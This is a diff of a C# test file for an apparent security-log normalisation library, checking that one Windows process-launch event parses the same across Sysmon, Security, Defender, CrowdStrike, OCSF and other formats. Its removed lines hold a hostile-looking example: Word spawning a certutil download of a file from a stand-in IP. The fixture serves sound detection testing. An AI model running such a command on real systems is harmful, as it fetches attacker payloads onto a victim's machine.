@@ -1,11 +1,16 @@
+using System.Text.Json.Nodes;
 using Changeling.Events;
+using Changeling.TestSupport;
 
 namespace Changeling.Core.Tests.Events;
 
 /// <summary>The same launch gives the same process event, whoever sends it, apart from what the sender does not know.</summary>
 public class GoldenLaunchTests
 {
+    private const string OfSecurity = "process.guid process.original_file_name process.hashes process.signature parent.command_line parent.guid";
+    private const string OfSysmon = "user.sid process.signature process.elevation";
     private const string SysmonIdentity = "sysmon-1|ws-0417.corp.example|{8d3f21b6-5c43-690a-9b01-000000002f00}";
+    private const string SecurityIdentity = "security-4688|ws-0417.corp.example|security|9914402|";
 
     public static TheoryData<string> Senders => [.. GoldenLaunch.Messages.Keys];
 
@@ -15,81 +20,85 @@ public class GoldenLaunchTests
     {
         var read = Reading.Event(GoldenLaunch.Messages[sender]);
 
-        Assert.Equal(new DateTime(2026, 11, 3, 9, 14, 27, 384), read.Time.UtcDateTime, TimeSpan.FromMilliseconds(0.9));
-        Assert.Equal("ws-0417.corp.example", read.Host.Name);
-        Assert.Equal("mara.lind", read.User?.Name);
-        Assert.Equal("corp", read.User?.Domain, ignoreCase: true);
-        Assert.Equal("certutil.exe", read.Child.Name);
-        Assert.Equal(@"C:\Windows\System32\certutil.exe", read.Child.Path);
-        Assert.Equal(@"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt", read.Child.CommandLine);
-        Assert.Equal(6284u, read.Child.Pid);
-        Assert.Equal(IntegrityLevel.Medium, read.Child.Integrity);
-        Assert.Equal("winword.exe", read.Parent?.Name);
-        Assert.Equal(@"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", read.Parent?.Path, ignoreCase: true);
-        Assert.Equal(9120u, read.Parent?.Pid);
+        GoldenEvent.AssertSame(read);
         Assert.Equal(EventNotes.None, read.Notes);
-        Assert.Equal(sender.Split(' ')[0], read.Format);
+        Assert.Equal(GoldenLaunch.Format(sender), read.Format);
     }
 
     [Theory]
-    [MemberData(nameof(Senders))]
-    public void What_a_sender_knows_beyond_that_agrees_too(string sender)
-    {
-        var read = Reading.Event(GoldenLaunch.Messages[sender]);
-
-        Agrees(GoldenLaunch.Sid, read.User?.Sid);
-        Agrees("CertUtil.exe", read.Child.OriginalFileName);
-        Agrees("1f2306a3b3a5e04d7bd914991986a5d8c23ef135", read.Child.Hashes?.Sha1);
-        Agrees("c7544986f4347555684b52fef40de584", read.Child.Hashes?.Md5);
-        Agrees(TokenElevation.Limited, read.Child.Elevation);
-        Agrees(
-            """
-            "C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\mara.lind\Downloads\offer.docm"
-            """,
-            read.Parent?.CommandLine);
-
-        static void Agrees(object expected, object? actual) => Assert.True(actual is null || expected.Equals(actual), $"{expected} != {actual}");
-    }
-
-    [Theory]
-    [InlineData("defender-xdr", "process.signature")]
+    [InlineData("asim", "process.signature")]
+    [InlineData("crowdstrike-fdr", "process.original_file_name process.signature process.elevation parent.path parent.command_line parent.pid")]
     [InlineData("defender-table", "process.signature")]
-    [InlineData("flat-windows (SecurityEvent)", "process.guid process.original_file_name process.hashes process.signature parent.command_line parent.guid")]
-    [InlineData("winlogbeat-6", "process.guid process.original_file_name process.hashes process.signature parent.command_line parent.guid")]
-    [InlineData("winevent-json", "process.guid process.original_file_name process.hashes process.signature parent.command_line parent.guid")]
-    [InlineData("flat-windows (NXLog)", "user.sid process.signature process.elevation")]
-    [InlineData("la-windowsevent", "user.sid process.signature process.elevation")]
-    [InlineData("winlogbeat", "user.sid process.signature process.elevation")]
+    [InlineData("defender-xdr", "process.signature")]
     [InlineData("ecs", "")]
+    [InlineData("ecs.dotted", "process.guid process.hashes process.signature process.elevation parent.guid")]
+    [InlineData("flat-windows.nxlog", OfSysmon)]
+    [InlineData("flat-windows.security-event", OfSecurity)]
+    [InlineData("fluentbit", OfSecurity)]
+    [InlineData("fluentbit.map", OfSysmon)]
+    [InlineData("fluentbit.sysmon", OfSysmon)]
+    [InlineData("fluentbit.xml", OfSecurity)]
+    [InlineData("la-event", OfSysmon)]
+    [InlineData("la-windowsevent", OfSysmon)]
+    [InlineData("ocsf", "process.signature process.elevation")]
+    [InlineData("ocsf.actor", "process.signature process.elevation")]
+    [InlineData("sentinelone", "user.sid process.original_file_name process.elevation")]
+    [InlineData("winevent-json", OfSecurity)]
+    [InlineData("winevent-xml", OfSecurity)]
+    [InlineData("winevent-xml.sysmon", OfSysmon)]
+    [InlineData("winlogbeat", OfSysmon)]
+    [InlineData("winlogbeat-6", OfSecurity)]
     public void A_sender_lacks_what_its_format_cannot_hold_and_nothing_else(string sender, string missing) =>
         Assert.Equal(missing, string.Join(' ', Reading.Event(GoldenLaunch.Messages[sender]).Missing));
 
     [Theory]
-    [InlineData("winlogbeat", SysmonIdentity)]
-    [InlineData("la-windowsevent", SysmonIdentity)]
-    [InlineData("flat-windows (NXLog)", SysmonIdentity)]
-    [InlineData("flat-windows (SecurityEvent)", "security-4688|ws-0417.corp.example|security|9914402|2026-11-03t09:14:27.3840000z")]
-    [InlineData("winevent-json", "security-4688|ws-0417.corp.example|security|9914402|2026-11-03t09:14:27.384102z")]
-    [InlineData("winlogbeat-6", "security-4688|ws-0417.corp.example|security|9914402|2026-11-03t09:14:27.384z")]
-    [InlineData("defender-xdr", "defender|4be1c07a92d3f5688e0a1b7c3d9f24506a7b8c1d|48213|2026-11-03t09:14:27.3912206z")]
+    [InlineData("asim", "asim|1184421|ws-0417|2026-11-03t09:14:27.3840000z")]
+    [InlineData("crowdstrike-fdr", "crowdstrike|6c0d1b9e42f84c7fa6d0e3b5a1f29c88|418870226611")]
     [InlineData("defender-table", "defender|4be1c07a92d3f5688e0a1b7c3d9f24506a7b8c1d|48213|2026-11-03t09:14:27.3912206z")]
+    [InlineData("defender-xdr", "defender|4be1c07a92d3f5688e0a1b7c3d9f24506a7b8c1d|48213|2026-11-03t09:14:27.3912206z")]
     [InlineData("ecs", "ecs|nqtg0bx6sw8hkq1a++++1azk")]
+    [InlineData("ecs.dotted", "ecs|nqtg0bx6sw8hkq1a++++1azk")]
+    [InlineData("flat-windows.nxlog", SysmonIdentity)]
+    [InlineData("flat-windows.security-event", SecurityIdentity + "2026-11-03t09:14:27.3840000z")]
+    [InlineData("fluentbit", SecurityIdentity + "2026-11-03 10:14:27 +0100")]
+    [InlineData("fluentbit.map", SysmonIdentity)]
+    [InlineData("fluentbit.sysmon", SysmonIdentity)]
+    [InlineData("fluentbit.xml", SecurityIdentity + "2026-11-03t09:14:27.3841020z")]
+    [InlineData("la-event", SysmonIdentity)]
+    [InlineData("la-windowsevent", SysmonIdentity)]
+    [InlineData("ocsf", "ocsf|3d2a8f4e-b894-11f1-9f0b-0242ac120002")]
+    [InlineData("ocsf.actor", "ocsf|3d2a8f4e-b894-11f1-9f0b-0242ac120002")]
+    [InlineData("sentinelone", "sentinelone|9a7d5c3b1f2e4d6c8b0a1928374655ef|7c41d20b9e5f6a83")]
+    [InlineData("winevent-json", SecurityIdentity + "2026-11-03t09:14:27.384102z")]
+    [InlineData("winevent-xml", SecurityIdentity + "2026-11-03t09:14:27.3841020z")]
+    [InlineData("winevent-xml.sysmon", SysmonIdentity)]
+    [InlineData("winlogbeat", SysmonIdentity)]
+    [InlineData("winlogbeat-6", SecurityIdentity + "2026-11-03t09:14:27.384z")]
     public void The_source_identity_is_the_event_s_own_and_the_same_for_every_carrier_of_a_sysmon_event(string sender, string identity) =>
         Assert.Equal(identity, Reading.Event(GoldenLaunch.Messages[sender]).SourceIdentity);
 
     [Fact]
-    public void Event_data_may_be_a_text_that_holds_the_object()
+    public void The_tables_above_name_every_sender()
     {
-        var asText = Reading.Event(GoldenLaunch.WithEventDataAsText);
-
-        Assert.Equal(Reading.Event(GoldenLaunch.Messages["la-windowsevent"]), asText);
+        foreach (var method in new[] { nameof(A_sender_lacks_what_its_format_cannot_hold_and_nothing_else), nameof(The_source_identity_is_the_event_s_own_and_the_same_for_every_carrier_of_a_sysmon_event) })
+        {
+            var rows = typeof(GoldenLaunchTests).GetMethod(method)!.GetCustomAttributes(typeof(InlineDataAttribute), false).Cast<InlineDataAttribute>();
+            Assert.Equal(GoldenLaunch.Messages.Keys, rows.Select(row => (string)row.Data[0]!).Order(StringComparer.Ordinal));
+        }
     }
 
     [Fact]
-    public void Only_elastic_says_who_signed_the_new_process()
+    public void Event_data_may_be_a_text_that_holds_the_object()
     {
-        var read = Reading.Event(GoldenLaunch.Messages["ecs"]);
+        var row = JsonNode.Parse(GoldenLaunch.Messages["la-windowsevent"])!;
+        row["EventData"] = row["EventData"]!.ToJsonString();
 
-        Assert.Equal(new CodeSignature(SignatureStatus.Valid, "Microsoft Windows"), read.Child.Signature);
+        Assert.Equal(Reading.Event(GoldenLaunch.Messages["la-windowsevent"]), Reading.Event(row.ToJsonString()));
     }
+
+    [Theory]
+    [InlineData("ecs", "Microsoft Windows")]
+    [InlineData("sentinelone", "MICROSOFT WINDOWS")]
+    public void Two_senders_say_who_signed_the_new_process(string sender, string signer) =>
+        Assert.Equal(new CodeSignature(SignatureStatus.Valid, signer), Reading.Event(GoldenLaunch.Messages[sender]).Child.Signature);
 }
